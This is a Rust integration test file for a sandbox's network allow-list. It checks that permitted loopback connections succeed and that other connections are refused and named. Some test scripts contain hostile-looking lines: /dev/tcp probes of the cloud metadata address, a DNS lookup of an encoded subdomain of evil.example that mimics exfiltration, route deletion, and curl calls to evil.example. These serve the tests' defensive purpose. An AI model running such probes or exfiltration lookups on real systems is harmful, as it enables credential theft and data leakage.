//! `run --allow-host`: real clients against a server of this process on loopback.

use std::{
    fs,
    io::{Read as _, Write as _},
    net::{Ipv4Addr, TcpListener, TcpStream},
    path::{Component, Path, PathBuf},
    process::Command,
    thread,
};

use serde_json::Value;

use crate::lab::Lab;

/// Serves the files below `root` over HTTP; returns its port. Ends with the test process.
fn serve(root: PathBuf) -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let root = root.clone();
            thread::spawn(move || answer(stream, &root));
        }
    });
    port
}

fn answer(mut stream: TcpStream, root: &Path) -> Option<()> {
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") {
        stream.read_exact(&mut byte).ok()?;
        head.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let path = head
        .split(' ')
        .nth(1)?
        .split('?')
        .next()?
        .trim_start_matches('/');
    let plain = Path::new(path)
        .components()
        .all(|part| matches!(part, Component::Normal(_)));
    let body = plain.then(|| fs::read(root.join(path)).ok()).flatten();
    let status = if body.is_some() {
        "200 OK"
    } else {
        "404 Not Found"
    };
    let body = body.unwrap_or_default();
    let length = body.len();
    write!(
        stream,
        "HTTP/1.1 {status}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
    )
    .ok()?;
    stream.write_all(&body).ok()
}

/// A server with one file.
fn server() -> (tempfile::TempDir, u16) {
    let root = tempfile::tempdir().unwrap();
    fs::write(root.path().join("greeting"), "hello from outside\n").unwrap();
    let port = serve(root.path().to_owned());
    (root, port)
}

fn fetch(port: u16) -> String {
    format!(
        "exec 3<>/dev/tcp/localhost/{port}; printf 'GET /greeting HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3"
    )
}

fn run(lab: &Lab, hosts: &[String], text: &str) -> Value {
    let mut options = vec!["--yes"];
    for host in hosts {
        options.extend(["--allow-host", host]);
    }
    fs::write(lab.workspace().join("client.sh"), text).unwrap();
    lab.run_with(&options, "bash client.sh")
}

fn violations(report: &Value) -> Vec<&str> {
    let all = report["violations"].as_array().unwrap();
    let network = all.iter().filter(|it| it["kind"] == "network");
    network.map(|it| it["detail"].as_str().unwrap()).collect()
}

fn is_installed(program: &str) -> bool {
    let there = Path::new("/usr/bin").join(program).exists();
    if !there {
        eprintln!("SKIPPED: {program} is not installed");
    }
    there
}

#[test]
fn a_command_reaches_what_is_allowed_and_the_report_says_so() {
    let (_root, port) = server();
    let lab = Lab::new();
    let report = run(&lab, &[format!("localhost:{port}")], &fetch(port));
    assert_eq!(report["outcome"], "completed", "{report:#}");
    let printed = report["stdout"]["text"].as_str().unwrap();
    assert!(printed.ends_with("hello from outside\n"), "{printed}");
    let connection = &report["network"]["connections"][0];
    assert_eq!(connection["decision"], "allowed");
    assert_eq!(connection["port"], port);
    assert_eq!(report["network"]["truncated"], false);
    assert_eq!(report["usage"]["net_rx_bytes"], connection["bytes_in"]);
    assert_eq!(report["usage"]["net_tx_bytes"], 26);
    assert_eq!(report["enforcement"]["network"], "full");
    // It is kept, and a person can read it.
    let id = report["operation"]["id"].as_str().unwrap();
    lab.sandbox(&["show", id]).code(0).prints("1 connection, ");
    // The control: without the list there is nothing at that address.
    let report = run(&lab, &[], &fetch(port));
    assert_eq!(report["outcome"], "failed", "{report:#}");
    assert_eq!(report["network"], Value::Null);
}

#[test]
fn what_is_not_allowed_is_refused_and_named() {
    let lab = Lab::new();
    let text = "for a in 1.1.1.1/443 169.254.169.254/80 8.8.8.8/22; do\n\
                (exec 3<>/dev/tcp/$a; cat <&3) 2>/dev/null && echo reached $a; done\n\
                getent ahosts c2VjcmV0.evil.example && echo resolved\n\
                ip route del local default dev lo 2>/dev/null && echo changed; true";
    let report = run(&lab, &["example.com".to_owned()], text);
    assert_eq!(report["stdout"]["text"], "", "{report:#}");
    let [first, second, closed, third] = violations(&report).try_into().unwrap();
    assert!(first.starts_with("connection to 1.1.1.1:443: "), "{first}");
    assert!(
        second.starts_with("connection to 169.254.169.254:80: "),
        "{second}"
    );
    assert!(closed.starts_with("connection to 8.8.8.8:22: "), "{closed}");
    assert!(
        third.starts_with("look-up of c2VjcmV0.evil.example: "),
        "{third}"
    );
    fs::write(
        lab.workspace().join("client.sh"),
        "exec 3<>/dev/tcp/1.1.1.1/80; read <&3",
    )
    .unwrap();
    lab.sandbox(&["run", "--allow-host", "example.com", "bash", "client.sh"])
        .says("violation: connection to 1.1.1.1:80: the address is not in the list");
}

#[test]
fn lists_come_from_documents_and_configurations_too() {
    let (_root, port) = server();
    let lab = Lab::new().file("client.sh", &fetch(port));
    let document = format!(
        r#"{{"type": "command", "command": "bash client.sh", "network": {{"allow_hosts": ["localhost:{port}"]}}}}"#
    );
    let ended = lab.sandbox_with_input(&["run", "--yes", "--json", "--operation", "-"], &document);
    assert_eq!(
        ended.code(0).json()["network"]["connections"][0]["decision"],
        "allowed"
    );

    let config = lab.root().join("config.yaml");
    let path = config.to_str().unwrap();
    let text = format!("safety_constraints: {{network: {{allow_hosts: ['localhost:{port}']}}}}\n");
    fs::write(&config, &text).unwrap();
    let typed = [
        "run",
        "--yes",
        "--json",
        "-c",
        path,
        "--shell",
        "bash client.sh",
    ];
    let report = lab.sandbox(&typed).code(0).json();
    assert_eq!(report["network"]["connections"][0]["decision"], "allowed");
    // What is typed is stronger.
    let report = lab
        .sandbox(&[&typed[..], &["--net", "none"]].concat())
        .json();
    assert_eq!(
        (&report["outcome"], &report["network"]),
        (&"failed".into(), &Value::Null)
    );
    // Two files that contradict each other.
    let user = lab.home().join(".config/sandbox/config.yaml");
    fs::create_dir_all(user.parent().unwrap()).unwrap();
    fs::write(
        &user,
        "safety_constraints: {network: {allow_external: true}}\n",
    )
    .unwrap();
    lab.sandbox(&typed).code(2);
    lab.sandbox(&["run", "-c", path, "--", "true"])
        .code(2)
        .says("allow_external: true");
}

#[test]
fn a_star_stands_for_every_port() {
    let (_root, port) = server();
    let lab = Lab::new();
    let report = run(&lab, &["localhost:*".to_owned()], &fetch(port));
    let printed = report["stdout"]["text"].as_str().unwrap();
    assert!(printed.ends_with("hello from outside\n"), "{report:#}");
    assert_eq!(report["network"]["connections"][0]["port"], port);
}

#[test]
fn curl_works_in_all_its_ways() {
    if !is_installed("curl") {
        return;
    }
    let (_root, port) = server();
    let lab = Lab::new();
    let url = format!("http://localhost:{port}/greeting");
    let curl = "curl -sS --max-time 20";
    let text = format!(
        "{curl} {url}\n\
         {curl} --http2 {url}\n\
         {curl} --resolve x.example:{port}:127.0.0.1 http://x.example:{port}/greeting\n\
         {curl} --noproxy '' --socks5-hostname 198.18.0.1:1080 {url}\n\
         {curl} --noproxy '' -p -x http://198.18.0.1:1080 {url}\n\
         ! {curl} --noproxy '' --socks5-hostname 198.18.0.1:1080 http://evil.example/ 2>/dev/null\n\
         ! {curl} http://evil.example/ 2>/dev/null\n\
         ! {curl} --resolve x.example:443:1.1.1.1 https://x.example/ 2>/dev/null"
    );
    let report = run(
        &lab,
        &[format!("localhost:{port}")],
        &format!("set -e\n{text}"),
    );
    assert_eq!(report["outcome"], "completed", "{report:#}");
    assert_eq!(
        report["stdout"]["text"],
        "hello from outside\n".repeat(5),
        "{report:#}"
    );
    let via = |it: &Value| it["via"].as_str().unwrap().to_owned();
    let connections = report["network"]["connections"].as_array().unwrap();
    let allowed = connections
        .iter()
        .filter(|it| it["decision"] == "allowed")
        .map(via);
    assert_eq!(
        allowed.collect::<Vec<_>>(),
        ["direct", "direct", "direct", "socks5", "http_connect"]
    );
    assert_eq!(violations(&report).len(), 3, "{report:#}");
}

#[test]
fn python_and_git_need_no_setting() {
    if !is_installed("python3") || !is_installed("git") {
        return;
    }
    let (root, port) = server();
    let made = Command::new("bash")
        .args([
            "-ec",
            "git init -q made; cd made; echo content > file; git add file
               git -c user.name=a -c user.email=a@a.example commit -qm one; cd ..
               git clone -q --bare made made.git; git -C made.git update-server-info",
        ])
        .current_dir(root.path())
        .env("HOME", root.path())
        .status()
        .unwrap();
    assert!(made.success());
    let lab = Lab::new();
    let text = format!(
        "set -e\n/usr/bin/python3 -c 'import urllib.request as r; print(r.urlopen(\"http://localhost:{port}/greeting\").read().decode(), end=\"\")'\n\
         git clone -q http://localhost:{port}/made.git cloned; cat cloned/file"
    );
    let report = run(&lab, &[format!("localhost:{port}")], &text);
    assert_eq!(
        report["stdout"]["text"], "hello from outside\ncontent\n",
        "{report:#}"
    );
    assert_eq!(report["outcome"], "completed", "{report:#}");
}

#[test]
fn nothing_is_left_when_the_caller_is_killed() {
    let (_root, port) = server();
    let lab = Lab::new();
    let marker = format!("8{}", std::process::id());
    let text = format!("exec 3<>/dev/tcp/localhost/{port}; touch ready; exec sleep {marker}");
    fs::write(lab.workspace().join("client.sh"), text).unwrap();
    let host = format!("localhost:{port}");
    let typed = [
        "run",
        "--yes",
        "--direct",
        "--allow-host",
        &host,
        "--",
        "bash",
        "client.sh",
    ];
    let mut caller = lab.command(&typed).spawn().unwrap();
    let there = lab.workspace().join("ready");
    eventually("the guest runs", || there.exists() && is_alive(&marker));
    caller.kill().unwrap();
    caller.wait().unwrap();
    eventually("the guest is dead", || !is_alive(&marker));
}

fn is_alive(marker: &str) -> bool {
    let processes = fs::read_dir("/proc").unwrap().flatten();
    processes
        .filter_map(|it| fs::read(it.path().join("cmdline")).ok())
        .any(|words| {
            words
                .split(|byte| *byte == 0)
                .any(|word| word == marker.as_bytes())
        })
}

fn eventually(what: &str, mut condition: impl FnMut() -> bool) {
    let start = std::time::Instant::now();
    while !condition() {
        assert!(start.elapsed().as_secs() < 30, "{what}");
        thread::park_timeout(std::time::Duration::from_millis(5));
    }
}
